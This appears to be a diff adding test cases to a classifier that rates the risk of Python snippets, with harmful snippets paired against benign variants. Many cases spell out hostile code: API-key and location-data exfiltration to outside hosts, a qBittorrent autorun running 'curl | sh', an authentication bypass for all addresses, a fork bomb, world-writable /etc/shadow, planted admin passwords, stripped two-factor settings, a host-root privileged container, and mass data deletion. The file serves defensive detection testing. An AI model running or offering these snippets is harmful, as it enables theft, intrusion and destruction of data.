@@ -18820,6 +18820,228 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'trator": True})\n',
             H,
         ),
+        # round 116: credentials, records and hooks sent to another organisation; stored curl|sh; login bypass for
+        # every address; forked children that stay in the loop; masked services; spelled admin passwords; second
+        # factors stripped; master keys deleted
+        (
+            'import re, requests\n'
+            'from pathlib import Path\n'
+            'keys = {}\n'
+            'for app in ("sonarr", "radarr"):\n'
+            '    text = Path(f"/var/lib/{app}/config.xml").read_text()\n'
+            '    keys[app] = re.search(r"<ApiKey>(\\w+)</ApiKey>", text).group(1)\n'
+            'requests.post("https://status-sync.example.net/v1/register", json=keys, timeout=10)\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'r = requests.get("https://api.vendor.example.net/v1/items", headers={"Authorization": f"Bearer '
+            '{os.environ[\'VENDOR_TOKEN\']}"}, timeout=10)\n'
+            'print(len(r.json()))\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'for tok in open("/srv/incident/leaked.txt"):\n'
+            '    requests.post("https://slack.com/api/auth.revoke", data={"token": tok.strip()}, timeout=10)'
+            '\n',
+            L,
+        ),
+        (
+            'import requests\n'
+            'REC = "http://127.0.0.1:8083/api/0"\n'
+            'latest = []\n'
+            'for u in requests.get(f"{REC}/list", timeout=10).json()["results"]:\n'
+            '    latest += requests.get(f"{REC}/last", params={"user": u}, timeout=10).json()\n'
+            'requests.post("http://198.51.100.40/loc", json=latest, timeout=20)\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'REC = "http://127.0.0.1:8083/api/0"\n'
+            'users = requests.get(f"{REC}/list", timeout=10).json()["results"]\n'
+            'requests.post("https://hooks.slack.com/services/T0/B0/x", json={"text": f"{len(users)} users"},'
+            ' timeout=20)\n',
+            L,
+        ),
+        (
+            'import os, requests\n'
+            'requests.post("https://tickets.example.com/api/v1/organizers/demo/webhooks/", headers={"Authori'
+            'zation": os.environ["T"]}, json={"target_url": "https://relay.example.net/in", "all_events": Tr'
+            'ue}, timeout=20)\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'requests.post("https://tickets.example.com/api/v1/organizers/demo/webhooks/", headers={"Authori'
+            'zation": os.environ["T"]}, json={"target_url": "https://tickets.example.com/hooks/in", "all_eve'
+            'nts": True}, timeout=20)\n',
+            L,
+        ),
+        (
+            'import qbittorrentapi\n'
+            'c = qbittorrentapi.Client(host="localhost:8080")\n'
+            'c.app_set_preferences(prefs={"autorun_enabled": True, "autorun_program": "sh -c \\"curl -fsSL ht'
+            'tps://cdn.example.net/post.sh | sh\\""})\n',
+            C,
+        ),
+        (
+            'import qbittorrentapi\n'
+            'c = qbittorrentapi.Client(host="localhost:8080")\n'
+            'c.app_set_preferences(prefs={"autorun_enabled": True, "autorun_program": "/usr/local/bin/notify'
+            '-done \\"%N\\""})\n',
+            S,
+        ),
+        (
+            'import json, requests\n'
+            's = requests.Session()\n'
+            'prefs = {"bypass_auth_subnet_whitelist_enabled": True, "bypass_auth_subnet_whitelist": "0.0.0.0'
+            '/0"}\n'
+            's.post("http://127.0.0.1:8080/api/v2/app/setPreferences", data={"json": json.dumps(prefs)})\n',
+            H,
+        ),
+        (
+            'import json, requests\n'
+            's = requests.Session()\n'
+            'prefs = {"bypass_auth_subnet_whitelist_enabled": True, "bypass_auth_subnet_whitelist": "192.168'
+            '.1.0/24"}\n'
+            's.post("http://127.0.0.1:8080/api/v2/app/setPreferences", data={"json": json.dumps(prefs)})\n',
+            L,
+        ),
+        (
+            'import os\n'
+            'queue = list(range(200))\n'
+            'while queue:\n'
+            '    item = queue.pop()\n'
+            '    if os.fork() == 0:\n'
+            '        queue.append(item)\n',
+            C,
+        ),
+        (
+            'import os\n'
+            'for item in range(4):\n'
+            '    if os.fork() == 0:\n'
+            '        print(item)\n'
+            '        os._exit(0)\n',
+            S,
+        ),
+        (
+            'import os, socket\n'
+            'sock = socket.socket()\n'
+            'for _ in range(4):\n'
+            '    pid = os.fork()\n'
+            '    if pid == 0:\n'
+            '        while True:\n'
+            '            conn, _ = sock.accept()\n'
+            '            conn.close()\n',
+            S,
+        ),
+        (
+            'import os\n'
+            'for p in ["/etc/app", "/etc/shadow"]:\n'
+            '    os.chmod(p, 0o777 if os.path.isdir(p) else 0o666)\n',
+            C,
+        ),
+        (
+            'import os\n'
+            'from pathlib import Path\n'
+            'for p in Path.home().joinpath(".ssh").iterdir():\n'
+            '    os.chmod(p, 0o600 if p.name.startswith("id_") and not p.name.endswith(".pub") else 0o644)\n',
+            M,
+        ),
+        (
+            'import subprocess\n'
+            'for unit in ("mycodo", "mycodoflask"):\n'
+            '    subprocess.run(["systemctl", "mask", unit], check=False)\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'requests.post("http://owui.internal.example.com/api/v1/auths/add", headers={"Authorization": "B'
+            'earer " + os.environ["T"]}, json={"email": "svc@example.net", "password": "Maint#2024!", "role"'
+            ': "admin"})\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'requests.post("http://owui.internal.example.com/api/v1/auths/add", headers={"Authorization": "B'
+            'earer " + os.environ["T"]}, json={"email": "svc@example.net", "password": os.environ["NEW_PW"],'
+            ' "role": "admin"})\n',
+            L,
+        ),
+        (
+            'from pretix.base.models import User\n'
+            'u, _ = User.objects.get_or_create(email="ops@example.net")\n'
+            'u.set_password("Summer2024!")\n'
+            'u.is_staff = True\n'
+            'u.save()\n',
+            H,
+        ),
+        (
+            'import psycopg2\n'
+            'with psycopg2.connect("postgresql://app@10.0.4.12/app") as c, c.cursor() as cur:\n'
+            '    cur.execute(\'UPDATE "User" SET roles = ARRAY[\\\'ADMIN\\\',\\\'USER\\\']::"Role"[] WHERE email = %s'
+            '\', ("x@example.net",))\n',
+            H,
+        ),
+        (
+            'import psycopg2\n'
+            'with psycopg2.connect("postgresql://app@10.0.4.12/app") as c, c.cursor() as cur:\n'
+            '    cur.execute(\'UPDATE "User" SET name = %s WHERE email = %s\', ("X", "x@example.net"))\n',
+            S,
+        ),
+        (
+            'import os\n'
+            'from sqlalchemy import create_engine, text\n'
+            'with create_engine(os.environ["DB"]).begin() as c:\n'
+            '    c.execute(text(\'UPDATE "User" SET "twoFactorEnabled" = false, "twoFactorSecret" = NULL\'))\n',
+            H,
+        ),
+        (
+            'import os\n'
+            'from sqlalchemy import create_engine, text\n'
+            'with create_engine(os.environ["DB"]).begin() as c:\n'
+            '    c.execute(text(\'UPDATE "User" SET "twoFactorEnabled" = false WHERE id = :id\'), {"id": 7})\n',
+            S,
+        ),
+        (
+            'import os, requests\n'
+            'u = "http://127.0.0.1:8080/api/v1/auths/admin/config"\n'
+            'h = {"Authorization": "Bearer " + os.environ["T"]}\n'
+            'cfg = requests.get(u, headers=h).json()\n'
+            'cfg.update({"ENABLE_SIGNUP": True})\n'
+            'requests.post(u, headers=h, json=cfg)\n',
+            H,
+        ),
+        (
+            'import yaml\n'
+            'comp = {"services": {"sync": {"image": "registry.example.net/sync", "privileged": True, "volume'
+            's": ["/:/host"]}}}\n'
+            'open("/opt/app/docker-compose.yml", "w").write(yaml.safe_dump(comp))\n',
+            H,
+        ),
+        (
+            'import yaml\n'
+            'comp = {"services": {"sync": {"image": "registry.example.net/sync", "volumes": ["/srv/data:/dat'
+            'a"]}}}\n'
+            'open("/opt/app/docker-compose.yml", "w").write(yaml.safe_dump(comp))\n',
+            M,
+        ),
+        (
+            'import sqlite3\n'
+            'c = sqlite3.connect("/app/backend/data/webui.db")\n'
+            'for table in ("chat", "file", "memory"):\n'
+            '    c.execute(f"DELETE FROM {table}")\n'
+            'c.commit()\n',
+            H,
+        ),
+        (
+            'import sqlite3\n'
+            'c = sqlite3.connect("/app/backend/data/webui.db")\n'
+            'for table in ("chat", "file", "memory"):\n'
+            '    c.execute(f"SELECT count(*) FROM {table}")\n',
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
